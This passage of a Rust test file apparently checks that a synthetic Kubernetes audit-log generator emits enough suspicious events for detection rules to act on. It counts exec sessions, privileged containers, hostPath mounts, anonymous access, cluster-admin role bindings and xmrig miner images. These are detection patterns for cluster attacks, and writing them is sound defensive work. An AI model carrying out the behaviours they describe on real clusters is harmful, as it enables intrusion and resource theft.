            "/requestObject/spec/jobTemplate/spec/template/spec",
        ]
        .iter()
        .filter_map(|p| {
            v.pointer(&format!("{p}/containers"))
                .and_then(Value::as_array)
        })
        .any(|cs| cs.iter().any(&f))
    }

    #[test]
    fn k8s_mix_holds_what_rules_need() {
        let evs = parse(&k8s_events(10_000, 3));
        let count = |f: &dyn Fn(&Value) -> bool| evs.iter().filter(|v| f(v)).count();
        let host_path = |v: &Value| v.to_string().contains("\"hostPath\"") && v["verb"] == "create";
        let kinds = [
            (
                "exec",
                count(&|v| {
                    v["objectRef"]["subresource"] == "exec" && v["responseStatus"]["code"] == 101
                }),
            ),
            (
                "privileged",
                count(&|v| {
                    v["verb"] == "create"
                        && any_container(v, |c| c["securityContext"]["privileged"] == true)
                }),
            ),
            ("hostPath", count(&host_path)),
            (
                "anonymous",
                count(&|v| v["user"]["username"] == "system:anonymous"),
            ),
            ("403", count(&|v| v["responseStatus"]["code"] == 403)),
            (
                "crb cluster-admin",
                count(&|v| {
                    v["objectRef"]["resource"] == "clusterrolebindings"
                        && v["requestObject"]["roleRef"]["name"] == "cluster-admin"
                }),
            ),
            (
                "miner",
                count(&|v| {
                    any_container(v, |c| {
                        c["image"].as_str().is_some_and(|i| i.contains("xmrig"))
                    })
                }),
            ),
        ];
        eprintln!("per 10,000: {kinds:?}");
        for (what, n) in kinds {
            assert!(n > 0 && n < 500, "{what}: {n} per 10,000");
        }
        let reads = count(&|v| matches!(v["verb"].as_str(), Some("get" | "list" | "watch")));
        assert!(reads > 6_000, "{reads} reads per 10,000");
    }
}
